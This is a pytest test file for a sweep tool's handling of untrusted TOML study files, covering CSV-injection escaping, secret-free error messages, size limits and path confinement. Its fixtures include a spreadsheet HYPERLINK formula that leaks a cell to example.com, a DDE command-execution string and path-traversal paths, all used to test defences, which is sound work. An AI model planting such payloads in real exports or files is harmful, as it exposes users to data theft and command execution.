"""Study files from others are inert: a study's results.csv runs no spreadsheet formula, no
message quotes the study file, a study's size is bounded before any design is built, and a
malformed study file is refused in one line, through the API and ``rffqm sweep``.

Nothing here solves a design: the runs use a task that returns a made-up row.
"""

from __future__ import annotations

import csv
import itertools
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from rffqm_nlp import sweeps
from rffqm_nlp.cli import app
from rffqm_nlp.design import SolveOptions
from rffqm_nlp.errors import InputError

try:
    runner = CliRunner(mix_stderr=False)
except TypeError:                      # click >= 8.2 keeps stderr apart by itself
    runner = CliRunner()

SECRET = "SECRET-" + "x" * 40          # a long string from a file: never in a message
TAIL = '\n[target]\nname = "sphere_cap"\n[design]\npanels = [8, 8]\n'
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


def values(n: int, start: float = 0.1) -> str:
    """A TOML list of ``n`` distinct numbers."""
    return "[" + ", ".join(f"{start + i / (10 * n):.9f}" for i in range(n)) + "]"


def study_file(tmp_path: Path, text: str, tail: str = TAIL) -> Path:
    path = tmp_path / "study.toml"
    path.write_text(text + tail)
    return path


def refused(path: Path, fragments: list[str]) -> str:
    """The InputError of loading and expanding the study at ``path``: it names every
    fragment and quotes nothing secret; the same study on the command line exits with
    status 2 and that one line, and writes no output folder."""
    with pytest.raises(InputError) as info:
        sweeps.Study.load(path).designs()
    message = str(info.value)
    assert "\n" not in message and SECRET not in message and "SECRET" not in message
    for fragment in fragments:
        assert fragment in message, (fragment, message)
    out = path.parent / "out"
    res = runner.invoke(app, ["sweep", str(path), "--out", str(out), "--scheduler", "none",
                              "--quiet"])
    stderr = res.stderr if hasattr(res, "stderr") else res.output
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert res.exit_code == 2, (res.exit_code, res.output, stderr)
    assert isinstance(res.exception, (SystemExit, type(None))), repr(res.exception)
    assert len(lines) == 1, stderr
    assert all(f in lines[0] for f in fragments), (fragments, lines[0])
    assert "SECRET" not in res.output + stderr and "Traceback" not in stderr
    assert not out.exists()
    return message


def made_up_task(payload: dict) -> dict:
    """A task that solves nothing: a failed row whose text cells start like formulas and
    whose numbers are negative."""
    row = {"status": "failed", "solver_status": "@SUM(A1:A9)", "reason": FORMULA,
           "rms": -0.5, "iterations": -3, "start": 0, "time": 0.25,
           "worker": "+cmd|' /C calc'!A0", "host": "\t=1+1"}
    return {"row": row, "result": None}


# --------------------------------------------------------------------------- CSV injection
def test_results_csv_holds_no_live_formula_and_the_parquet_the_raw_values(tmp_path):
    path = study_file(tmp_path, '[sweep]\n"design.omega0" = [-0.5, 0.5]\n'
                                '[[sweep.cases]]\nname = "=1+2"\n"target.radius" = 3.0\n'
                                '[[sweep.cases]]\nname = "-7"\n"target.radius" = 4.0\n',
                      TAIL + "omega_bounds = [-3.0, 3.0]\n")
    out = tmp_path / "out"
    frame = sweeps.run(path, out, scheduler="none", progress=False, task=made_up_task)
    assert list(frame["case"]) == ["=1+2", "=1+2", "-7", "-7"]
    with open(out / "results.csv", newline="") as fh:
        cells = list(csv.reader(fh))
    header, rows = cells[0], cells[1:]
    assert len(rows) == 4
    live = [cell for row in cells for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert live == []
    # A text cell starting with - is text too; a negative number stays a number.
    columns = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert columns["design.omega0"] == ["-0.5", "0.5", "-0.5", "0.5"]
    assert columns["rms"] == ["-0.5"] * 4 and columns["iterations"] == ["-3"] * 4
    assert columns["case"] == ["'=1+2", "'=1+2", "'-7", "'-7"]
    assert columns["name"][0] == "'=1+2 omega0=-0.5" and columns["name"][2] == "'-7 omega0=-0.5"
    assert set(columns["reason"]) == {"'" + FORMULA}
    assert set(columns["solver_status"]) == {"'@SUM(A1:A9)"}
    assert set(columns["host"]) == {"'\t=1+1"}
    read = pd.read_csv(out / "results.csv")
    assert read["design.omega0"].tolist() == [-0.5, 0.5, -0.5, 0.5]
    assert read["rms"].dtype == "float64" and (read["rms"] == -0.5).all()
    # The Parquet file and the returned table keep the values as they are.
    parquet = pd.read_parquet(out / "results.parquet")
    pd.testing.assert_frame_equal(parquet, frame)
    assert set(parquet["reason"]) == {FORMULA} and set(parquet["host"]) == {"\t=1+1"}
    assert parquet["name"].tolist()[0] == "=1+2 omega0=-0.5"


def test_csv_frame_prefixes_formula_text_only():
    frame = pd.DataFrame({
        "text": pd.Series(["=1", "+1", "-1", "@A1", "\tx", "\rx", " =1", "\uff1d1", "ok", None],
                          dtype=object),
        "str": pd.Series(["-x", "a-b", None, "=", "", "x", "y", "z", "w", "v"], dtype="string"),
        "number": [-1.5, 2.0, -0.0, np.nan, 1e300, -1e-300, 3.0, 4.0, 5.0, 6.0],
        "whole": pd.array([-1, 2, None, 4, 5, 6, 7, 8, 9, 10], dtype="Int64"),
        "=header": [True] * 10,
    })
    safe = sweeps.csv_frame(frame)
    assert safe["text"].tolist() == ["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "' =1",
                                     "'\uff1d1", "ok", None]
    assert safe["str"].tolist()[:2] == ["'-x", "a-b"] and safe["str"].tolist()[3] == "'="
    assert safe["str"].dtype == frame["str"].dtype and pd.isna(safe["str"].tolist()[2])
    pd.testing.assert_series_equal(safe["number"], frame["number"])
    pd.testing.assert_series_equal(safe["whole"], frame["whole"])
    assert list(safe.columns) == ["text", "str", "number", "whole", "'=header"]
    assert frame["text"].tolist()[0] == "=1" and "=header" in frame.columns   # unchanged


# --------------------------------------------------------------------------- messages
@pytest.mark.parametrize("text, fragments", [
    (f'[[sweep.cases]]\nname = "{SECRET}"\n"target.radius" = 3.0\n',
     ["[[sweep.cases]] #1 name", "a string of 47 characters"]),
    ('[[sweep.cases]]\nname = "=HYPERLINK(1)"\n"target.radius" = 3.0\n',
     ["[[sweep.cases]] #1 name", "a string of 13 characters"]),
    ('[[sweep.cases]]\nname = "red \\u001b[31m"\n"target.radius" = 3.0\n',
     ["[[sweep.cases]] #1 name", "a string of 9 characters"]),
    ('[[sweep.cases]]\nname = 5\n"target.radius" = 3.0\n', ["#1 name", "the whole number 5"]),
    (f'[sweep]\n"target.{SECRET}" = [1.0]\n', ["(a name of 54 characters) is not a parameter"]),
    ('[sweep]\n"target.=HYPERLINK(1)" = [1.0]\n', ["(a name of 20 characters) is not a"]),
    ('[sweep]\n"target.r\\u202eadius" = [1.0]\n', ["(a name of 14 characters) is not a"]),
    (f'[sweep]\n"target.radius" = ["{SECRET}"]\n',
     ["design 'radius=(a name of 47 characters)'", "[target] radius"]),
    (f'[sweep]\n"design.layout" = ["zigzag_i", "{SECRET}"]\n', ["[design] layout"]),
    (f'[sweep]\nsample = 2\n"{SECRET}.x" = {{low = 1.0, high = 2.0, colour = 1}}\n',
     ["[sweep] (a name of 49 characters): a range is"]),
    (f'base = "{SECRET}/none.toml"\n', ["base: no such design file none.toml",
                                       "a string of 57 characters"]),
    ('base = "' + "a" * 5000 + '.toml"\n', ["base must name a design file",
                                            "a string of 5005 characters"]),
])
def test_no_message_quotes_the_study_file(tmp_path, text, fragments):
    tail = "" if text.startswith("base") else TAIL
    refused(study_file(tmp_path, text, tail), fragments)


def test_a_base_file_is_named_by_its_file_name_only(tmp_path):
    folder = tmp_path / SECRET
    folder.mkdir()
    (folder / "cap.toml").write_text("[target\nname = 1\n")
    message = refused(study_file(tmp_path, f'base = "{SECRET}/cap.toml"\n', ""),
                      ["base file cap.toml is not valid TOML"])
    assert "at line 1" in message
    (folder / "cap.toml").write_text("[colours]\nred = 1\n")
    refused(study_file(tmp_path, f'base = "{SECRET}/cap.toml"\n', ""),
            ["base file cap.toml: unknown table [colours]"])


def test_a_library_error_reaches_no_message(tmp_path, monkeypatch):
    def broken(cls, table, trust=False):
        raise ValueError(f"could not convert string to float: '{SECRET}'")

    monkeypatch.setattr(SolveOptions, "from_config", classmethod(broken))
    path = study_file(tmp_path, '[sweep]\n"target.radius" = [3.0]\n')
    with pytest.raises(InputError) as info:
        sweeps.Study.load(path).designs()
    message = str(info.value)
    assert "design 'radius=3'" in message and "(ValueError)" in message
    assert "SECRET" not in message and "convert" not in message


# --------------------------------------------------------------------------- sizes
def test_a_grid_over_the_limit_is_refused_before_it_is_built(tmp_path):
    path = study_file(tmp_path, "[sweep]\n" + "".join(
        f'"{key}" = {values(1000)}\n' for key in ("design.alpha0", "design.omega0",
                                                  "design.min_angle")))
    t0 = time.perf_counter()
    refused(path, ["[sweep]: the grid has 1000000000 designs", "design.alpha0 (1000)",
                   f"limit of {sweeps.MAX_DESIGNS} designs"])
    assert time.perf_counter() - t0 < 10


def test_the_limit_counts_cases_and_holds_exactly(tmp_path):
    cases = "".join(f'[[sweep.cases]]\n"target.radius" = {3 + i / 100}\n' for i in range(10))
    over = study_file(tmp_path, f'[sweep]\n"design.alpha0" = {values(1001)}\n' + cases)
    refused(over, ["the grid has 10010 designs (10 cases x design.alpha0 (1001))"])
    study = sweeps.Study(base={"target": {"name": "sphere_cap"}},
                         parameters={"design.alpha0": [0.1] * 100, "design.omega0": [0.1] * 100})
    assert study.count == sweeps.MAX_DESIGNS == 10_000
    with pytest.raises(InputError, match="the grid has 10100 designs"):
        sweeps.Study(base={}, parameters={"design.alpha0": [0.1] * 101,
                                          "design.omega0": [0.1] * 100})


@pytest.mark.parametrize("line, fragments", [
    ("sample = 1e9", ["[sweep] sample must be a whole number in [1, 10000]", "1e+09"]),
    ("sample = 1000000000", ["[sweep] sample must be a whole number in [1, 10000]",
                             "1000000000"]),
    ("sample = 10001", ["[sweep] sample", "10000"]),
    ("sample = true", ["[sweep] sample", "true (a boolean)"]),
])
def test_sample_counts_are_checked_against_the_limit(tmp_path, line, fragments):
    refused(study_file(tmp_path, f'[sweep]\n{line}\n"design.alpha0" = {values(3)}\n'), fragments)


def test_a_sample_of_a_huge_grid_draws_without_building_it(tmp_path):
    grid = {key: list(np.linspace(0.2, 1.2, 1000)) for key in
            ("design.alpha0", "design.omega0", "design.min_angle")}
    grid["design.min_angle"] = list(np.linspace(0.0, 0.1, 1000))
    study = sweeps.Study(base={"target": {"name": "sphere_cap"}, "design": {"panels": [8, 8]}},
                         parameters=grid, sample=5, seed=3)
    t0 = time.perf_counter()
    designs = study.designs()
    assert time.perf_counter() - t0 < 10
    assert study.count == 5 and study.grid_size() == 10 ** 9
    assert len({d.id for d in designs}) == 5
    # A grid too large for 64-bit indices is drawn a value of each list at a time.
    keys = ("design.alpha0", "design.omega0", "design.min_angle", "design.mu_margin",
            "design.min_length", "design.min_clearance", "solve.damping")
    study = sweeps.Study(base={}, sample=4, parameters={
        key: list(np.linspace(0.01, 0.5, 1000)) for key in keys})
    assert study.grid_size() == 1000 ** 7 > sweeps.MAX_INDEX
    t0 = time.perf_counter()
    points = study.points()
    assert time.perf_counter() - t0 < 10
    assert len(points) == 4 and len({str(p) for p in points}) == 4


def test_a_sample_of_a_grid_draws_the_same_points_as_before(tmp_path):
    """The K points of a grid of lists are the grid's points at K indices drawn by
    rng.choice(len(grid), K, replace=False), the grid in itertools.product order."""
    cases = [{"name": "a", "target.radius": 3.0}, {"name": "b", "target.radius": 4.0}]
    params = {"design.alpha0": [0.5, 0.7, 0.9], "design.layout": ["zigzag_i", "zigzag_j"],
              "solve.seed": [1, 2, 3, 4]}
    study = sweeps.Study(base={}, parameters=params, cases=cases, sample=7, seed=11)
    grid = [(case["name"], {"target.radius": case["target.radius"], **dict(zip(params, c))})
            for case in cases for c in itertools.product(*params.values())]
    chosen = np.random.default_rng(11).choice(len(grid), 7, replace=False)
    assert study.points() == [grid[int(i)] for i in chosen]
    assert study.count == 7 and study.grid_size() == 48


@pytest.mark.parametrize("text, fragments", [
    ('"solve.max_iter" = {low = 1, high = 100000000000000000000000000000}',
     ["[sweep] solve.max_iter: high must be a number in [-2**53, 2**53]"]),
    ('"solve.seed" = {low = 0, high = 1e29}', ["[sweep] solve.seed: high", "1e+29"]),
    ('"target.radius" = {low = -1e308, high = 1e308}',
     ["[sweep] target.radius: high - low must be a finite number"]),
    ('"target.radius" = {low = 1.0, high = 1e400}', ["[sweep] target.radius: high must be"]),
    ('"solve.seed" = {low = 0.2, high = 0.8}', ["solve.seed: the range [0.2, 0.8] holds no"]),
    ('"solve.seed" = {low = 0, high = 4}\n"design.layout" = ["zigzag_i", "zigzag_j"]',
     ["sample = 11 but the study has only 10 distinct designs"]),
    ('"design.alpha0" = ' + values(3), ["sample = 11 but the grid has only 3 designs"]),
])
def test_huge_or_empty_ranges_are_refused_in_one_line(tmp_path, text, fragments):
    refused(study_file(tmp_path, f"[sweep]\nsample = 11\n{text}\n"), fragments)


def test_huge_literals_are_refused_in_one_line(tmp_path):
    refused(study_file(tmp_path, "[sweep]\n" + "".join(f'"target.k{i}" = {values(10)}\n'
                                                       for i in range(60))),
            ["the grid has more than 10**60 designs", "target.k0 (10) x target.k1 (10)"])
    refused(study_file(tmp_path, '[sweep]\n"target.radius" = [' + "9" * 400 + "]\n"),
            ["design 'radius=(a whole number of 400 digits)'", "[target] radius"])
    refused(study_file(tmp_path, '[sweep]\n"target.domain" = [' + "[" * 40 + "]" * 40 + "]\n"),
            ["[sweep] target.domain: a value nests lists or tables more than 8 deep"])
    refused(study_file(tmp_path, "[sweep]\n" + "".join(f'"target.k{i}" = [1.0]\n'
                                                       for i in range(101))),
            ["the study varies 101 parameters, more than the 100"])
    refused(study_file(tmp_path, '[sweep]\nsample = 2\nseed = 1e400\n'
                                 '"target.radius" = [3.0, 4.0]\n'),
            ["[sweep] seed must be a whole number", "inf"])


# --------------------------------------------------------------------------- other malformed
@pytest.mark.parametrize("text, fragments", [
    ("[sweep]\ncases = 5\n", ["sweep.cases must be an array of tables"]),
    ('[sweep]\ncases = [1, 2]\n', ["sweep.cases must be an array of tables"]),
    ('[sweep]\nsample = 2\n"target.radius" = {low = 1, high = 2, log = "yes"}\n',
     ["[sweep] target.radius: log must be true or false"]),
    ('[sweep]\nsample = 2\n"target.radius" = {low = "a", high = 2}\n',
     ["[sweep] target.radius: low must be a finite number"]),
    ('[sweep]\ntarget.radius.x = [1.0]\n', ["[sweep] target.radius: a range is"]),
    ('[sweep]\ntarget = 5\n', ["[sweep]: target is not a parameter"]),
    ('[sweep]\n"target." = [1.0]\n', ["[sweep]: target. is not a parameter"]),
    ('[sweep]\n"design.panels" = [true]\n', ["design 'panels=True'", "[design] panels"]),
    ('[sweep]\n"design.panels" = [1e400]\n', ["[design] panels"]),
    ('[sweep]\n"target.radius" = [nan, 4.0]\n', ["design 'radius=nan'", "[target] radius"]),
    ('[[sweep.cases]]\ntarget = {radius = {x = 1}}\n', ["design 'radius={\"x\":1}'"]),
    ('[sweep]\nsample = 1\n"target.radius" = [nan]\n"design.alpha0" = {low = 0.5, high = 0.6}\n',
     ["design 'radius=nan", "[target] radius"]),
    ('[sweep]\nsample = 1\n"target.radius" = [1979-05-27T07:32:00Z]\n'
     '"design.alpha0" = {low = 0.5, high = 0.6}\n', ["design 'radius=(a datetime)"]),
    ('[sweep]\n"target.domain" = [[1979-05-27, 1.0]]\n', ['design \'domain=["(a date)",1.0]\'']),
    ('[[sweep.cases]]\nname = 1979-05-27\n"target.radius" = 3.0\n', ["#1 name", "a date"]),
])
def test_malformed_study_files_are_one_input_error_line(tmp_path, text, fragments):
    refused(study_file(tmp_path, text), fragments)


def test_a_study_built_in_python_is_checked_too():
    with pytest.raises(InputError, match="5 is not a parameter"):
        sweeps.Study(base={}, parameters={5: [1.0]})
    with pytest.raises(InputError, match=r"\[design\] must be a table, got a list of 2"):
        sweeps.Study(base={"design": [1, 2]})
    with pytest.raises(InputError, match="unknown base table colours"):
        sweeps.Study(base={"colours": {}})
    with pytest.raises(InputError, match="must be an array of tables"):
        sweeps.Study(base={}, cases=[5])
    ok = sweeps.Study(base={"target": {"name": "sphere_cap"}, "design": {"panels": [8, 8]}},
                      parameters={"design.omega0": [0.5]},
                      cases=[{"name": "R=3 big", "target.radius": 3.0}])
    assert [d.name for d in ok.designs()] == ["R=3 big omega0=0.5"]


def test_a_study_cannot_sweep_trust(tmp_path):
    """trust is the caller's word: a study cannot set it for its designs."""
    base = tmp_path / "base.toml"
    base.write_text('[target]\nname = "sphere_cap"\n[design]\npanels = [4, 4]\n')
    study = tmp_path / "study.toml"
    study.write_text('base = "base.toml"\n[sweep]\n"solve.trust" = [true]\n')
    with pytest.raises(InputError, match=r"unknown solve key trust"):
        sweeps.Study.load(study).designs()


@pytest.mark.parametrize("how", ["absolute", "dots", "link"])
def test_a_study_opens_no_base_outside_its_folder(tmp_path, how):
    """A path a study names stays inside the study's folder unless the caller trusts it."""
    outside = tmp_path / "private" / "mine.toml"
    outside.parent.mkdir()
    outside.write_text('[target]\nname = "sphere_cap"\n')
    folder = tmp_path / "downloads"
    folder.mkdir()
    (folder / "link.toml").symlink_to(outside)
    base = {"absolute": str(outside), "dots": "../private/mine.toml", "link": "link.toml"}[how]
    study = folder / "study.toml"
    study.write_text(f'base = "{base}"\n[sweep]\n"design.layout" = ["zigzag_j"]\n')
    with pytest.raises(InputError, match="base names a file outside the folder") as info:
        sweeps.Study.load(study)
    assert "private" not in str(info.value)
    assert sweeps.Study.load(study, trust=True).count == 1
    result = runner.invoke(app, ["sweep", str(study), "--out", str(tmp_path / "out")])
    assert result.exit_code == 2 and "outside the folder" in result.stderr
